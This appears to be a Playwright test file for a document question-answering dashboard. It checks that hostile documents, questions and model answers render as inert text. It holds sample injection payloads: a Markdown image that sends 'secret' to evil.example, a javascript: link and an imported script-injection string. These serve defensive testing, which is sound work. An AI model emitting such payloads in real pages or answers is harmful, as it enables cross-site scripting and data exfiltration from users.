"""What documents, questions and models say runs and loads nothing on the page that asks."""

from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from bloomweaver.auth.roles import Role
from tests.dashboard.asking import an_answer, answered, ask, citation, made_up, message
from tests.dashboard.conftest import SignedIn
from tests.dashboard.test_attacks import SCRIPT, nothing_ran
from tests.e2e.running_stack import RunningStack

IMAGE = "![x](https://evil.example/x?q=secret)"
LINK = "[press](javascript:document.title='pressed')"


def elsewhere(page: Page) -> list[str]:
    """The hosts that the page asks for something, other than its own, from now on."""
    hosts: list[str] = []

    def note(url: str) -> None:
        host = urlsplit(url).hostname
        if host not in (urlsplit(page.url).hostname, None):
            hosts.append(host)

    page.on("request", lambda request: note(request.url))
    return hosts


def test_a_hostile_document_and_question_are_text(signed_in: SignedIn, stand: RunningStack, doc_hash: str) -> None:
    hostile = f"The harbour of {doc_hash} opens at nine {SCRIPT} {IMAGE} {LINK}"
    stand.index(doc_hash, hostile, title=f"{SCRIPT} {doc_hash}", folder=f"/tests/{doc_hash}")
    page = signed_in(Role.VIEWER, f"/ask?folder=/tests/{doc_hash}")
    hosts = elsewhere(page)
    question = f"{SCRIPT} When does the harbour of {doc_hash} open? {IMAGE}"
    ask(page, question)
    found = answered(page, question)
    # Quoted letter by letter: it is no Markdown.
    expect(found.get_by_text(f"opens at nine {SCRIPT} {IMAGE} {LINK}").first).to_be_visible()
    expect(found.get_by_role("list", name="Sources")).to_contain_text(SCRIPT)
    expect(page.get_by_role("complementary", name="Chats")).to_contain_text("<img src=x")
    nothing_ran(page)
    assert page.locator("main img, main a[href*=evil]").count() == 0
    assert hosts == []


def test_what_a_model_writes_loads_nothing_and_its_links_say_where_they_lead(signed_in: SignedIn) -> None:
    page = signed_in(Role.VIEWER, "/nowhere")
    hosts = elsewhere(page)
    text = (
        f"# Keys\n\n**Under** the mat. [1]\n\n{IMAGE}\n\n{LINK} and [this](https://example.org/a?b=c#d) [1]\n\n"
        f"{SCRIPT}\n\n```\ncode [1]\n```\n\n[1](https://evil.example/chip) <https://evil.example/auto>[1]\n"
        "[7] \ue0009\ue001\n\n[x][r]\n\n[r]: https://evil.example/ref\n"
    )
    places = [place for place in range(len(text)) if text.startswith("[1]", place)]
    made_up(
        page,
        an_answer(
            text=text, generator="openai", citations=[citation(at=places, title=SCRIPT, quote=f"{IMAGE} {SCRIPT}")]
        ),
        title=SCRIPT,
    )
    found = message(page, "Where are the keys?")
    expect(found.get_by_role("heading", name="Keys", exact=True)).to_be_visible()
    expect(found.locator("strong")).to_have_text("Under")
    chips = found.get_by_role("link", name="Source 1: <img src=x")
    expect(chips).to_have_count(len(places))
    expect(found.locator("pre").get_by_role("link", name="Source 1")).to_have_count(1)
    expect(found.get_by_text("Image: x (https://evil.example/x?q=secret)")).to_be_visible()
    expect(found.get_by_role("link", name="this", exact=True)).to_have_attribute("href", "https://example.org/a?b=c#d")
    expect(found.get_by_text("(https://example.org/a?b=c#d)")).to_be_visible()
    expect(found.get_by_text("(javascript:document.title='pressed')")).to_be_visible()
    expect(found.get_by_text("(https://evil.example/ref)")).to_be_visible()
    expect(found.get_by_text("[7]")).to_be_visible()
    found.get_by_text("What is cited").click()
    expect(found.get_by_text(f"{IMAGE} {SCRIPT}")).to_be_visible()
    nothing_ran(page)
    assert page.locator("main img").count() == 0
    assert all(each.get_attribute("rel") == "noopener noreferrer" for each in page.locator("main a[href^=http]").all())
    assert hosts == []


def test_what_a_model_was_given_is_text(signed_in: SignedIn) -> None:
    page = signed_in(Role.VIEWER, "/nowhere")
    made_up(page, an_answer(text="Under the mat.", generator="openai"))
    given = {"messages": [{"role": "user", "content": f"{SCRIPT} {IMAGE}"}], "passages": [], "whole": True}
    page.route("**/prompt", lambda route: route.fulfill(json=given))
    page.get_by_text("What the model was given").click()
    expect(page.get_by_text(f"{SCRIPT} {IMAGE}")).to_be_visible()
    nothing_ran(page)
